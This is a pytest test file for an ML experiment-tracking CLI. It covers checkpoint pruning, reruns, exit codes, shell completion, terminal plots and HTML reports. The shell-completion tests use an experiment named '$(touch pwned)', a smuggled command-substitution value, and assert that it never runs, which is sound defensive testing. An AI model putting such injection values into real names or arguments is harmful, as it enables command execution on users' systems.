    script = training(KEEPS_THE_BEST + "save(5)\nwait('one')\nsave(4)\nwait('two')")
    script.expect("one")
    until(lambda: bucket.exists() and bucket.checkpoints() and pending_documents(project)[0]["checkpoints"] == [])
    bucket.proxy.rule = lambda request: "reset" if request.kind == "DELETE" and (
        "checkpoints/" in request.key or b"checkpoints/" in request.body) else None
    script.go()
    script.expect("two")
    until(lambda: [item["path"] for item in bucket.documents()[0]["checkpoints"]] == [None, "model"])
    assert len(archives_in(bucket)) == 2
    script.kill()
    mend(bucket.proxy)
    assert run("push").returncode == 0 and len(archives_in(bucket)) == 1


def test_a_checkpoint_that_a_run_made_just_before_it_was_killed_can_be_pruned_by_the_next(
        project, call, training, monkeypatch):
    script = training("""
        replicate.FOLD_INTERVAL = replicate.MAX_FOLD_INTERVAL = 1000
        experiment = replicate.init(quiet=True)
        save(0)
        wait(experiment.id)
        save(1)
        wait("saved")
        """)
    experiment_id = script.expect("")

    def falls_silent(repository, ids):
        script.go()
        script.expect("saved")
        script.kill()
        return True

    monkeypatch.setattr(replicate, "falls_silent", falls_silent)
    with replicate.init(resume=experiment_id, keep_latest=1, quiet=True) as experiment:
        save(experiment, 2)
    assert faults(call) == {} and steps_with_files(experiment) == [2]


@pytest.mark.parametrize("waiting", [False, True])
def test_archives_that_a_killed_process_left_in_the_pending_area_go_after_a_day(bucket, project, waiting):
    experiment = replicate.init(quiet=True)
    bucket.proxy.down()
    first = save(experiment, 0)
    if not waiting:
        mend(bucket.proxy)
    replicate.stop_all(1)
    root, old, new = pending_root(project), hex_id("0d"), hex_id("1d")
    named = ["checkpoints/%s.tar.gz" % first.id] if waiting else []
    for key in ["%s/%s.tar.gz" % (kind, item_id) for kind in ("experiments", "checkpoints") for item_id in (old, new)]:
        write_archive(root / key, old, {"model": b"weights"})
    for key in ["%s/%s.tar.gz" % (kind, old) for kind in ("experiments", "checkpoints")] + named:
        os.utime(root / key, (time.time() - 86500, time.time() - 86500))
    mend(bucket.proxy)
    assert run("push").returncode == 0 and bucket.steps() == [0]
    assert pending_leftovers(project) == ["checkpoints/%s.tar.gz" % new, "experiments/%s.tar.gz" % new]


def test_what_a_running_experiment_has_written_stays_in_the_pending_area(bucket, project, call, monkeypatch):
    monkeypatch.setattr(replicate, "LEFTOVER_SECONDS", -60)
    experiment = replicate.init(quiet=True)
    path = pending_root(project) / ("checkpoints/%s.tar.gz" % hex_id("0d"))
    write_archive(path, hex_id("0d"), {"model": b"not in the journal yet"})
    assert call("push")[0] == 0 and path.exists()
    experiment.stop()
    assert call("push")[0] == 0 and not path.exists()


@pytest.fixture
def shell_script(project, monkeypatch):
    """train.sh in the project, a program that is not Python; it and others find `replicate` on the path."""
    (project / "train.sh").write_text(textwrap.dedent("""\
        #!/bin/sh
        # usage: train.sh RATE [CODE], which records three checkpoints
        echo "training with $1"
        mkdir -p deep && cd deep
        for step in 0 1 2; do
            echo "weights $step" > model.bin
            replicate checkpoint --path model.bin --step $((10 * step)) --metric "loss=0.$((5 - step))" --metric lr=$1 \\
                --primary loss:minimize || exit 70
        done
        exit ${2:-0}
        """))
    (project / "train.sh").chmod(0o755)
    fake_program(project.parent / "bin", "replicate", 'exec "%s" -m replicate "$@"\n' % sys.executable, monkeypatch)
    return project


def test_a_program_in_any_language_is_recorded_and_run_again(place, shell_script):
    done = run("run", "--param", "lr=0.5", "--param", "net.depth=3", "--path", "train.sh", "--name", "shell", "--tag", "sh", "--",
               "./train.sh", "0.5")
    assert (done.returncode, done.stdout) == (0, "training with 0.5\n"), done.stderr
    (document,) = place.documents()
    assert document["params"] == {"lr": 0.5, "net.depth": 3} and document["command"] == "./train.sh 0.5"
    assert document["outcome"]["status"] == "completed" and document["path"] == "train.sh" and document["name"] == "shell"
    assert document["python_packages"] == {} and document["tags"] == ["sh"]
    assert [(item["step"], item["path"], item["metrics"]) for item in document["checkpoints"]] == [
        (10 * step, "deep/model.bin", {"loss": (5 - step) / 10, "lr": 0.5}) for step in range(3)]
    best = document["checkpoints"][2]
    assert best["primary_metric"] == {"name": "loss", "goal": "minimize"}
    assert place.files("checkpoints", best["id"]) == {"deep/model.bin": b"weights 2\n"}
    assert not [key for key in place.keys() if key.startswith(("metadata/heartbeats/", "tmp/", "journals/"))]
    assert not list(shell_script.glob(".replicate/pending/*/metadata/experiments/*"))

    again = run("rerun", "shell", "-o", "again")
    assert (again.returncode, again.stdout) == (0, "training with 0.5\n"), again.stderr
    assert "run --param lr=0.5" in again.stderr and (shell_script / "again/deep/model.bin").exists()
    one, other = sorted(place.documents(), key=lambda item: item["created"])
    assert one["id"] == document["id"] and other["code"] == one["code"] and other["params"] == one["params"]
    assert [item["metrics"] for item in other["checkpoints"]] == [item["metrics"] for item in one["checkpoints"]]
    assert run("verify").returncode == 0


@pytest.mark.parametrize("program, code, status, error", [
    (["./train.sh", "1", "3"], 3, "failed", "exit code 3"), (["sh", "-c", "kill -9 $$"], 137, "failed", "ended by SIGKILL"),
    (["sh", "-c", "kill -15 $$"], 143, "terminated", None), (["sh", "-c", "kill -1 $$"], 129, "terminated", None),
    (["sh", "-c", "exit 130"], 130, "interrupted", None), (["./no-shell"], 1, "failed", "it could not be started"),
    (["./no-line"], 1, "failed", "it could not be started"),
    ([sys.executable, "-c", "pass"], 0, "completed", None)], ids=lambda value: str(value)[:9])
def test_how_a_program_ends_is_how_the_run_ends(shell_script, call, program, code, status, error):
    (shell_script / "no-shell").write_text("#!/nonsense/interpreter\n")
    (shell_script / "no-line").write_text("echo 1\n")
    for name in ("no-shell", "no-line"):
        (shell_script / name).chmod(0o755)
    done = run("run", "--", *program)
    assert done.returncode == code and (program[0] + " cannot be run" in done.stderr) == (program[0][:5] == "./no-")
    assert ("first line such as #!" in done.stderr) == (program == ["./no-line"])
    (document,) = stored_documents(shell_script / "repo")
    assert document["outcome"]["status"] == status and document["outcome"].get("error") == error
    if program[0] == sys.executable:  # the program has its packages
        assert "pytest" in document["python_packages"] and document["python_version"].startswith("3.")
    assert call("ls", "--columns", "status", "--csv")[1] == "status\n%s\n" % status


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGUSR1, signal.SIGHUP])
def test_signals_of_a_scheduler_reach_the_program(project, number):
    patient = "import signal, sys, time\nsignal.signal(%d, lambda *_: sys.exit(5))\nprint('ready', flush=True)\nwhile True: time.sleep(0.1)"
    runner = subprocess.Popen([sys.executable, PROGRAM, "run", "--", sys.executable, "-c", patient % number], stdout=subprocess.PIPE,
                              preexec_fn=lambda: signal.signal(number, signal.SIG_DFL))  # under nohup it would be ignored
    assert runner.stdout.readline() == b"ready\n"
    runner.send_signal(number)
    assert runner.wait(30) == 5
    runner.stdout.close()
    assert stored_documents(project / "repo")[0]["outcome"]["error"] == "exit code 5"


def test_ctrl_c_ends_a_program_and_its_run(project):
    assert Terminal("run", "--", "sh", "-c", "echo ready; exec sleep 60").expect("ready").interrupt().wait() == 130
    assert stored_documents(project / "repo")[0]["outcome"]["status"] == "interrupted"


def test_checkpoints_of_a_program_say_in_their_exit_code_what_is_wrong_and_have_steps_of_their_own(project, shell_script):
    done = run("run", "--", "sh", "-c", textwrap.dedent("""\
        replicate checkpoint --path missing --metric loss=1; test $? = 1 || exit 2
        replicate checkpoint -q --metric loss=nan || exit 3
        for i in 1 2 3 4 5 6; do replicate checkpoint --metric i=$i & done; wait  # all at once
        replicate checkpoint --step 123456789012 --path ""; test $? = 1"""))
    assert done.returncode == 0 and "does not exist" in done.stderr
    items = stored_documents(project / "repo")[0]["checkpoints"]
    assert [item["step"] for item in items] == [0, 1, 2, 3, 4, 5, 6, 7, 123456789012]
    assert [item["metrics"] for item in items[:2]] == [{"loss": 1}, {"loss": "[NaN]"}]
    assert sorted(item["metrics"]["i"] for item in items[2:8]) == [1, 2, 3, 4, 5, 6]


def test_a_checkpoint_that_a_full_disk_refuses_is_an_error(project, says, monkeypatch):
    def full(*_):
        raise OSError(errno.ENOSPC, "No space left on device")

    def unwritable(*_):
        raise replicate.WriteError("There is no space.")

    with replicate.init(quiet=True) as experiment:
        monkeypatch.setenv("REPLICATE_EXPERIMENT", experiment.id)
    monkeypatch.setattr(replicate.Journal, "append", full)
    monkeypatch.setattr(replicate.Repository, "fold", unwritable)
    err = says("checkpoint", "--metric", "loss=1", code=1)
    assert "will be lost" in err and "was not recorded" in err


def test_ranks_above_0_run_the_program_and_record_nothing(shell_script):
    done = run("run", "--", "./train.sh", "1", env={"RANK": "1", "WORLD_SIZE": "2"})
    assert (done.returncode, done.stdout) == (0, "training with 1\n") and not (shell_script / "repo").exists()


def test_a_program_goes_on_while_its_bucket_is_away(bucket, shell_script):
    bucket.create()
    done = run("run", "--", "sh", "-c", "replicate checkpoint --metric loss=1; echo ready; read line; "
               "replicate checkpoint --metric loss=2", input="go\n")
    assert done.returncode == 0 and bucket.steps() == [0, 1]
    bucket.proxy.down()
    (shell_script / "model.bin").write_bytes(b"step 7")
    done = run("run", "--", "sh", "-c", "replicate checkpoint --path model.bin --step 7; replicate checkpoint")
    assert done.returncode == 0 and "safe in" in done.stderr
    bucket.proxy.up()
    assert run("push").returncode == 0 and bucket.steps() == [0, 1, 7, 8]


def test_a_script_is_run_again_with_its_code_and_resumes_nothing(project):
    fill(project, {"src/train.py": textwrap.dedent("""\
        import sys, replicate
        experiment = replicate.init(path='.', params={'rate': sys.argv[1]}, resume='auto')
        experiment.checkpoint(metrics={'loss': 1})
        sys.exit(int(sys.argv[2]))
        """).encode()})
    done = subprocess.run([sys.executable, "train.py", "a b", "3"], cwd=project / "src")
    (document,) = stored_documents(project / "repo")
    assert done.returncode == 3 and document["full_command"].startswith("cd src && ")
    (project / "src/train.py").write_text("raise SystemExit('changed since')\n")
    done = run("rerun", document["id"][:9])
    assert done.returncode == 3 and "train.py 'a b' 3" in done.stderr, done.stderr
    folder = project / ("rerun-" + document["id"][:7])
    assert (folder / "src/train.py").exists()
    one, other = sorted(stored_documents(project / "repo"), key=lambda item: item["created"])
    assert other["params"] == one["params"] == {"rate": "a b"} and len(other["checkpoints"]) == len(one["checkpoints"]) == 1
    assert run("rerun", document["id"], "-o", folder).returncode == 1  # it is there
    names = [source.name for source in replicate.find_sources(str(project), ".")]
    assert "src/train.py" in names and not any("rerun" in name for name in names)


def test_a_script_is_run_again_by_the_python_of_the_project(project):
    fill(project, {"env/pyvenv.cfg": b"", "train.py": b"import sys; print(sys.executable)\n"})
    (project / "env/bin").mkdir()
    (project / "env/bin/python").symlink_to(sys.executable)
    for item, command in ((A, "env/bin/python train.py"), (B, "cd new/folder && sh -c pwd")):
        write_repository(project / "repo", experiment_document(item, path=".", full_command=command))
        write_archive(project / "repo/experiments" / (item + ".tar.gz"), item, {"train.py": b"print('again')\n"})
    assert run("rerun", A).stdout == "again\n"
    assert run("rerun", B, "-o", "other").stdout == "%s/other/new/folder\n" % project


@pytest.mark.parametrize("fields, words", [
    ({"path": None}, "saved no code"), ({"full_command": "python train.py --token ***"}, "secret"), ({"full_command": "", "command": ""}, "not known"),
    ({"full_command": "cd /etc && python train.py"}, "outside the project"), ({"full_command": "cd ../x && python t.py"}, "outside the project"),
    ({"full_command": "python 'unclosed"}, "not known")])
def test_what_cannot_be_run_again(project, says, fields, words):
    archived(project, {"train.py": b"print(1)"}, **{"full_command": "python train.py", **fields})
    before = snapshot(project)
    assert words in says("rerun", A, code=1) and snapshot(project) == before


@pytest.mark.parametrize("shell, option, load", [
    ("bash", "--norc", "source <(%s)"), ("zsh", "-f", "autoload -U compinit; compinit -u; source <(%s)"),
    ("fish", "--no-config", "%s | source")], ids=["bash", "zsh", "fish"])
def test_a_shell_completes_commands_flags_ids_and_names(project, shell, option, load):
    if not shutil.which(shell):
        pytest.skip("%s is not installed" % shell)
    write_repository(project / "repo", experiment_document(A, name="baseline"), experiment_document(B, name="$(touch pwned)"))
    terminal = Terminal(program=[shell, option])
    terminal.send(load % ("%s %s completion %s" % (sys.executable, PROGRAM, shell)) + "; echo loa''ded\n").expect("loaded")
    terminal.send("replicate() { echo got \"$@\" end; }\n" if shell != "fish" else "function replicate; echo got $argv end; end\n")
    terminal.send("replicate sho\tbas\t\n").expect("got show baseline end")
    terminal.send("replicate diff 1e\t 2\t --cod\t\n").expect("got diff %s %s --code end" % (A[:7], B[:7]))
    terminal.process.kill()
    terminal.wait()
    assert not (project / "pwned").exists()


@pytest.mark.parametrize("line, offered", [
    ("", "ls ps show"), ("sho", "show"), ("ls --col", "--columns --color"), ("show ", "baseline 1eeeeee 2eeeeee"), ("show b", "baseline"),
    ("show 1c", "1cccccc"), ("tag 1c", ""), ("-D . diff 1e 2", "2eeeeee 2cccccc"), ("rm 1eeeeeeee", "1eeeeeeee"),
    ("ls --sort model.", "model.depth"), ("completion ", "bash fish zsh"), ("ls --color t", ""), ("help dif", "diff"), ("run -- sh", ""),
    ("-D missing show ", ""), ("nonsense x", ""), ("checkout 1e -o ", ""),
    ("rm -vf 2e", "2eeeeee"), ("ls -vq --sort model.", "model.depth"), ("-vD . rm 2e", "2eeeeee")])
def test_what_is_offered_to_complete(project, call, line, offered):
    write_repository(project / "repo", experiment_document(A, name="baseline", params={"model": {"depth": 1}}, checkpoints=[
        checkpoint_document(C), checkpoint_document(D)]), experiment_document(B, name="$(touch pwned)"))
    code, out, err = call("--complete", *line.split(" "))
    found = out.split("\n")[:-1]
    assert set(offered.split()) <= set(found) and ("" == line or set(found) == set(offered.split()))
    assert "pwned" not in out


def test_completion_of_a_bucket_asks_only_the_cache(bucket, project, call):
    experiment = replicate.init(quiet=True)
    experiment.stop()
    assert call("--complete", "show", "")[1] == ""
    assert call("ls")[0] == 0
    bucket.proxy.clear()
    assert call("--complete", "show", "")[1] == experiment.short_id() + "\n" and not bucket.proxy.seen()


def curves_repository(project, *values_of_runs, **fields):
    """A run for each list of losses, one a step of 10."""
    for number, values in enumerate(values_of_runs):
        items = [checkpoint_document(hex_id("%x%02xc" % (number, step)), "2006-01-02T14:%02d:05Z" % (54 + step // 10), 10 * step, {
            "loss": value, "twice": step ** 2}, primary=("loss", "minimize")) for step, value in enumerate(values)]
        write_repository(project / "repo", experiment_document(
            hex_id("%de" % number), "2006-01-02T14:54:%02dZ" % number, params={"lr": number / 10, "same": 1}, checkpoints=items, **fields))


def test_curves_in_a_pipe(project, call):
    curves_repository(project, [4, 3, 2, 1, 0], [0, 1, 2, 3, 4])
    code, out, err = call("plot")
    lines = out.rstrip("\n").split("\n")
    assert code == 0 and max(map(len, lines)) <= 80 and len(lines) == 20 and lines[0] == "loss over step"
    assert [line.split() for line in lines[-2:]] == [["a", "0eeeeee", "lr=0", "0"], ["b", "1eeeeee", "lr=0.1", "4"]]
    assert lines[-2].endswith("  lr=0    0") and lines[-1].endswith("  lr=0.1  4")
    assert lines[-3].split() == ["0", "10", "20", "30", "40"]
    assert [line[0] for line in lines if line[1:2] == "┤"] == ["4", "3", "2", "1", "0"]
    assert lines[1].rstrip()[-1] == "b" and lines[15].rstrip()[-1] == "a" and not lines[8].rstrip().endswith(("a", "b"))
    dots = [[ord(letter) - 0x2800 if letter >= "\u2800" else 0 for letter in line[2:76]] for line in lines[1:16]]
    assert dots[0][0] & 1 and dots[14][0] & 0x40 and all(any(row) for row in dots)  # from the corners, without a gap


@pytest.mark.parametrize("flags, first, last, title", [
    ([], "30", "10", "loss over step"), (["--log"], "10", "1", "loss (logarithmic) over step"), (["-m", "twice"], "15", "0", "twice over step"),
    (["-x", "twice"], "30", "10", "loss over twice"), (["-x", "time"], "30", "10", "loss over time (seconds)")])
def test_scales_of_curves_have_round_numbers(project, call, flags, first, last, title):
    curves_repository(project, [31, 3, 2, 1, 0.1])
    out = call("plot", *flags)[1]
    labels = [line.split("┤")[0].strip() for line in out.split("\n") if "┤" in line]
    assert first in labels and last in labels and out.startswith(title + "\n")
    assert all(len(label.strip("0")) <= 2 for label in labels)


def drawn(project, call, values, *flags):
    """As dotted_columns() of a curve of these values."""
    curves_repository(project, values)
    return dotted_columns(call("plot", *flags)[1])


def dotted_columns(plot):
    """The columns in which a plot has dots, as a string of # and spaces."""
    lines = [re.split("[┤│]", line, maxsplit=1)[1][:-1] for line in plot.split("\n") if re.match(" *[0-9.e+-]*[┤│]", line)]
    width = max(map(len, lines))
    return "".join("#" if any(line.ljust(width)[column] >= "\u2800" for line in lines) else " " for column in range(width)).strip()


def test_a_run_that_cannot_be_drawn_is_named(project, call):
    curves_repository(project, [1, 2], ["[NaN]", "[NaN]"])
    assert call("plot")[2] == call("plot", "1e", "0e")[2] == "═══╡ Not drawn, as 'loss' has no values: 1eeeeee\n"


def test_nan_infinity_text_and_missing_values_are_gaps(project, call):
    assert " " not in drawn(project, call, [1, 2, 3, 2, 1])
    for gap in ("[NaN]", "[+Infinity]", "text", None, True):
        parts = drawn(project, call, [1, 2, gap, 2, 1]).split()
        assert len(parts) == 2 and abs(len(parts[0]) - len(parts[1])) <= 1
    assert len(drawn(project, call, [1, 2, 0, 2, 1], "--log").split()) == 2
    assert len(drawn(project, call, [1, "x", 1, "x", 1]).split()) == 3  # a value between two gaps is a dot
    curves_repository(project, [2, 1, "[NaN]"])
    assert re.search(r"(?m)^a .* NaN$", call("plot")[1]) and re.search(r"(?m)^a .* NaN$", call("plot", "--smooth")[1])


def test_a_metric_that_some_checkpoints_lack_is_one_curve(project, call, pyplot):
    """As where a Trainer logs the loss more often than the validation's."""
    experiment = replicate.init(quiet=True)
    for step in range(9):
        experiment.checkpoint(step=step, metrics={"loss": 9 - step, **({"eval_loss": 8 - step} if step % 4 == 0 else {})}, quiet=True)
    experiment.stop()
    assert " " not in dotted_columns(call("plot", "-m", "eval_loss")[1])
    assert json.loads(call("ls", "--columns", "~eval_loss", "--json")[1]) == [{"~eval_loss": [8, 4, 0]}]
    line, = experiment.plot("eval_loss").get_lines()
    assert (list(line.get_xdata()), list(line.get_ydata())) == ([0, 4, 8], [8, 4, 0])
    steps, _, curves = replicate.report_curves(experiment, ["eval_loss", "loss"], 100)
    assert steps == list(range(9)) and curves["eval_loss"] == [8, None, None, None, 4, None, None, None, 0]


def test_smoothing_is_a_moving_average_that_starts_at_the_first_value():
    experiment = make_experiment(*[checkpoint_document(hex_id("%xc" % step), step=step, metrics={"loss": value})
                                   for step, value in enumerate([1.0, 0.0, "[NaN]", 0.0])])
    points = replicate.Curve(experiment, "loss", "step", smooth=True).points
    assert points[2] is None and points[0] == (0, 1.0)
    assert points[1][1] == pytest.approx(0.6 * 0.4 / (0.6 * 0.4 + 0.4)) and points[3][1] == pytest.approx(0.36 / (1 + 0.6 + 0.36))


def test_curves_on_a_terminal_fit_it_and_have_colors(project):
    curves_repository(project, *[[number, 5 - number] for number in range(9)])
    output = on_terminal("plot", "-n", "9", COLUMNS="60", LINES="24")
    lines = re.sub("\x1b\\[[0-9;]*m", "", output).rstrip("\n").split("\n")
    assert len(lines) < 24 and max(map(len, lines)) < 60
    assert len(set(re.findall("\x1b\\[3\\dm", output))) == 6 and "\x1b[36ma\x1b[0m  0eeeeee" in output
    ascii_only = run("plot", env={"PYTHONIOENCODING": "ascii"}).stdout
    assert ascii_only.isascii() and "aaa" in ascii_only and "+" in ascii_only


def test_a_plot_of_more_curves_than_its_legend_has_room_for_says_so(project, call):
    curves_repository(project, *[[number, 0] for number in range(9)])
    lines = call("plot", "-n", "9")[1].splitlines()
    assert lines[-1] == "...and 3 more" and lines[-2].startswith("f  ") and len(lines) == 20
    assert "more" not in call("plot", "-n", "6")[1]


def test_curves_are_drawn_until_no_run_is_running(project, training):
    script = training("experiment = replicate.init(quiet=True)\nfor i in range(3): experiment.checkpoint(metrics={'loss': i}, quiet=True)\n"
                      "wait('one')\nexperiment.checkpoint(metrics={'loss': 77}, quiet=True)\nexperiment.stop()")
    script.expect("one")
    terminal = Terminal("plot", "-m", "loss", "--watch").expect("  2\r\n").expect("\x1b[H\x1b[J")
    script.go()
    assert terminal.expect("  77\r\n").wait() == 0
    assert Terminal("plot", "-m", "loss", "--watch").expect("77").wait() == 0  # none is running


@pytest.mark.parametrize("metrics, flags, code, words", [
    ({}, [], 1, "no metric was recorded"), ({"a": 1}, [], 0, ""), ({"a": 1, "b": 2}, ["-m", "b"], 0, ""),
    ({"a": 1, "b": 2}, [], 1, "Choose a metric with -m: 'a', 'b'")])
def test_without_a_primary_metric_the_metric_is_to_be_named(project, call, metrics, flags, code, words):
    write_repository(project / "repo", experiment_document(A))
    assert "no experiment with a checkpoint" in call("plot")[2]
    write_repository(project / "repo", experiment_document(A, **measured(metrics)))
    found, _, err = call("plot", *flags)
    assert found == code and words in err


@hypothesis.given(st.lists(st.one_of(st.floats(), st.integers(-2 ** 1000, 2 ** 1000), st.none(), st.text(max_size=3)), min_size=1, max_size=20),
       st.integers(1, 200), st.integers(1, 60), st.booleans(), st.booleans())
def test_any_values_can_be_plotted_at_any_size(values, width, height, log, braille):
    experiment = make_experiment(*[checkpoint_document("%064x" % step, step=step, metrics={"m": replicate.pack_floats(value)})
                                   for step, value in enumerate(values)])
    for axis in ("step", "m"):
        curve = replicate.Curve(experiment, "m", axis, log)
        if curve.values():
            assert list(replicate.render_plot([curve] * 3, (axis, "m"), (width, height), log, braille))
    replicate.sparkline([value if type(value) in (int, float) else None for value in values])


@pytest.mark.parametrize("low, high, labels", [
    (0, 20, ["0", "5", "10", "15", "20"]), (1000000, 1000020, ["1000000", "1000005", "1000010", "1000015", "1000020"]),
    (0.9999899, 0.9999919, ["0.99999", "0.9999905", "0.999991", "0.9999915"]), (-2.5e7, 0, ["-2e+07", "-1e+07", "0"])])
def test_the_labels_of_an_axis_differ(low, high, labels):
    assert list(replicate.Scale([low, high], 100).ticks(4).values()) == labels


def test_a_sparkline_is_a_column(project, call):
    curves_repository(project, [0, 7, "x", 3.5], list(range(60)), [])
    lines = call("ls", "--columns", "id,~loss,lr")[1].split("\n")
    assert lines[0].split() == ["ID", "~loss", "lr"]
    assert "▁█ ▅" in lines[1] or "▁█ ▄" in lines[1]
    assert re.search("▁▁?▂.*▇██? ", lines[2]) and len(lines[2].split()[1]) == 16 and lines[3].split() == ["2eeeeee", "0.2"]
    assert json.loads(call("ls", "--columns", "~loss", "--json", "-n", "3")[1])[0] == {"~loss": [0, 7, None, 3.5]}
    assert {replicate.sparkline([value]) for value in (0.1, 0.81481, 0.83838, 5, 0)} == {"▅"}  # a single value is in the middle
    assert "#" in run("ls", "--columns", "~loss", env={"PYTHONIOENCODING": "ascii"}).stdout
    assert "called 'los'" in call("ls", "--columns", "~los")[2]


@pytest.fixture(scope="session")
def chromium():
    path = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    if path is None:
        pytest.skip("chromium is not installed")
    with sync_api.sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=path, args=["--no-sandbox", "--disable-gpu"])
        yield browser
        browser.close()


@pytest.fixture
def page(chromium, project, call):
    """page(...) makes a report of the project and opens it; what the page complains of fails the test, and so does a request."""
    opened, wrong = [], []

    def open_report(*arguments, **settings):
        code, out, err = call("report", *arguments)
        assert code == 0, err
        opened.append(chromium.new_page(viewport={"width": 1280, "height": 900}, **settings))
        opened[-1].on("console", lambda message: wrong.append(message.text))
        opened[-1].on("pageerror", lambda error: wrong.append(str(error)))
        opened[-1].on("request", lambda request: request.url.startswith("file:") or wrong.append(request.url))
        opened[-1].goto("file://%s" % (project / "report.html"))
        return opened[-1]

    yield open_report
    for each in opened:
        each.close()
    assert wrong == []


def column_of(page, title):
    place = [re.sub(" [▲▼]", "", text) for text in page.locator("thead th").all_inner_texts()].index(title)
    return [row.locator("td").nth(place).inner_text() for row in page.locator("tbody tr").all()]


def test_the_table_of_a_report_sorts_filters_and_marks_the_best(project, page):
    sweep(project, 5)
    report = page()
    assert report.locator("h1").inner_text().startswith("5 experiments, ") and report.locator("tbody tr").count() == 5
    assert column_of(report, "batch_size") == ["1", "2", "4", "8", "16"]
    assert report.locator("td.best").all_inner_texts() == ["0.2"]
    report.get_by_role("button", name="val_loss", exact=True).click()
    assert column_of(report, "val_loss") == ["0.2", "0.25", "0.33333", "0.5", "1"]
    assert report.locator("th[aria-sort=ascending]").inner_text() == "val_loss ▲"
    report.get_by_role("button", name="val_loss ▲").click()
    assert column_of(report, "val_loss")[0] == "1" and column_of(report, "id")[0] == "00eeeee"
    report.get_by_role("button", name="optimizer.name").press("Enter")  # by keyboard
    assert column_of(report, "optimizer.name") == ["adam", "adam", "adam", "sgd", "sgd"]
    report.get_by_label("Filter runs").fill("sgd")
    assert column_of(report, "optimizer.name") == ["sgd", "sgd"] and "2 of 5 runs" in report.inner_text("#runs")
    assert report.locator("td.best").all_inner_texts() == ["0.25"]
    report.get_by_text("Columns", exact=True).click()
    report.get_by_label("seed", exact=True).uncheck()
    report.get_by_label("accuracy", exact=True).check()
    titles = report.locator("thead th").all_inner_texts()
    assert "seed" not in titles and "accuracy" in titles


def test_curves_of_a_report_overlay_the_chosen_runs_and_tell_values(project, page):
    curves_repository(project, [4, 2, 1], [3, "[NaN]", 5], [0, 1, 2])
    path = next((project / "repo/metadata/experiments").glob("2e*"))
    document = json.loads(path.read_text())
    del document["checkpoints"][1]["metrics"]["loss"]
    path.write_text(json.dumps(document))
    report = page()
    chart = report.locator("#curves figure", has=report.get_by_text("loss", exact=True))
    assert report.locator("#curves figcaption").all_inner_texts() == ["loss", "twice"]  # the primary metric first
    assert chart.locator("path.curve").count() == 3
    paths = [line.get_attribute("d") for line in chart.locator("path.curve").all()]
    assert [path.count("M") for path in paths] == [1, 2, 1]  # a gap, and a curve through the steps that have the metric
    report.get_by_label("Select 0eeeeee").check()
    report.get_by_label("Select 1eeeeee").check()
    assert chart.locator("path.curve").count() == 2
    chart.locator("svg").hover(position={"x": 75, "y": 60})
    assert chart.locator(".tip").inner_text().split() == ["step", "0", "0eeeeee", "4", "1eeeeee", "3"]
    chart.locator("svg").press("ArrowRight")
    chart.locator("svg").press("ArrowRight")
    assert chart.locator(".tip").inner_text().split() == ["step", "20", "1eeeeee", "5", "0eeeeee", "1"]
    before = chart.locator("path.curve").first.get_attribute("d")
    report.get_by_label("Smoothing").fill("0.5")
    assert chart.locator("path.curve").first.get_attribute("d") != before
    report.get_by_label("Log scale").check()
    report.locator("#curves select").select_option("seconds")
    report.get_by_role("button", name="Clear selection").click()
    assert chart.locator("path.curve").count() == 3 and report.locator("tbody input:checked").count() == 0
    assert report.locator("#scatter circle").count() == 3
    report.locator("#scatter select").nth(1).select_option("twice")
    assert "twice by lr" in report.locator("#scatter svg").get_attribute("aria-label")
    report.locator("#scatter circle").last.click()
    assert "2eeeeee" in report.locator("#facts dd").first.inner_text()
    assert report.locator("#parallel path.curve").count() == 3 and "lr" in report.inner_text("#parallel")


def test_a_report_shows_single_checkpoints_and_long_texts_at_a_size_to_read(project, page):
    curves_repository(project, [1], [2], name="x" * 1000)
    report = page()
    rings = [line.bounding_box() for line in report.locator("#curves path.curve").all()]
    assert rings and all(ring["width"] > 4 and ring["height"] > 4 for ring in rings)
    assert report.locator("tbody tr").first.bounding_box()["width"] < 1200


def test_a_report_shows_what_differs_in_the_code_of_two_runs(project, page):
    for number, text in enumerate(("a\nb\nc\n", "a\n<b>B</b>\nc\n", "a\nb\nc\n")):
        (project / "train.py").write_text(text)
        (project / "data.bin").write_bytes(b"\0" + text.encode())
        (project / ("new%d.py" % number)).write_text("new\n")
        replicate.init(path=".", params={"n": number}, quiet=True).stop()
        (project / ("new%d.py" % number)).unlink()
    report = page()
    _, second, third = [item.id[:7] for item in replicate.experiments.list()]
    report.locator("#code select").nth(1).select_option(label=second)
    assert report.locator("#code h3").all_inner_texts() == ["data.bin", "new0.py (removed)", "new1.py (added)", "train.py"]
    assert report.locator("#code pre").last.inner_text() == " a\n-b\n+<b>B</b>\n c\n"
    assert report.locator("#code .added").last.inner_text() == "+<b>B</b>\n" and "not text" in report.inner_text("#code")
    report.locator("#code select").nth(1).select_option(label=third)
    assert report.locator("#code h3").all_inner_texts() == ["new0.py (removed)", "new2.py (added)"]
    report.locator("tbody button").nth(1).click()
    assert report.locator("#facts dd").first.inner_text() == replicate.experiments.list()[1].id


@pytest.mark.parametrize("old, new, shown", [
    ("a\nb\n", "a\nb", " a\n-b\n+b\n\\ No newline at end of file\n"), ("a", "a\nb\n", "-a\n\\ No newline at end of file\n+a\n+b\n"),
    ("", "a\n", "+a\n"), ("a\n\n", "", "-a\n-\n")])
def test_a_report_shows_where_a_file_ends_without_a_newline(project, page, old, new, shown):
    for text in (old, new):
        (project / "train.py").write_text(text)
        replicate.init(path="train.py", quiet=True).stop()
    assert page().locator("#code pre").inner_text() == shown


def test_the_labels_of_charts_are_whole_however_long_the_numbers_are(project, page):
    for number, (item, name) in enumerate(((A, "adam"), (B, "stochastic_gradient_descent"))):
        write_repository(project / "repo", experiment_document(item, params={"optimizer": name, "seed": 10 ** 13 * number}, checkpoints=[
            checkpoint_document(hex_id("%d%dc" % (number, step)), step=step * 10 ** 6, primary=("huge", "maximize"), metrics={
                "huge": (number + step) * 10 ** 14, "tiny": -1.2345e-7 * step, "plain": 0.25 * step}) for step in range(5)]))
    report = page()
    assert report.evaluate("""() => [...document.querySelectorAll("svg text")].filter(label => {
        const [inner, outer] = [label, label.closest("svg")].map(element => element.getBoundingClientRect());
        const isCut = getComputedStyle(label.closest("svg")).overflow !== "visible" && (inner.left < outer.left || inner.right > outer.right);
        return isCut || inner.left < 0 || inner.right > innerWidth;
      }).map(label => label.textContent)""") == []
    labels = [figure.locator("svg text").all_text_contents() for figure in report.locator("#curves figure").all()]
    assert labels[0] == ["0", "1e14", "2e14", "3e14", "4e14", "5e14", "0", "1000000", "2000000", "3000000", "4000000"]
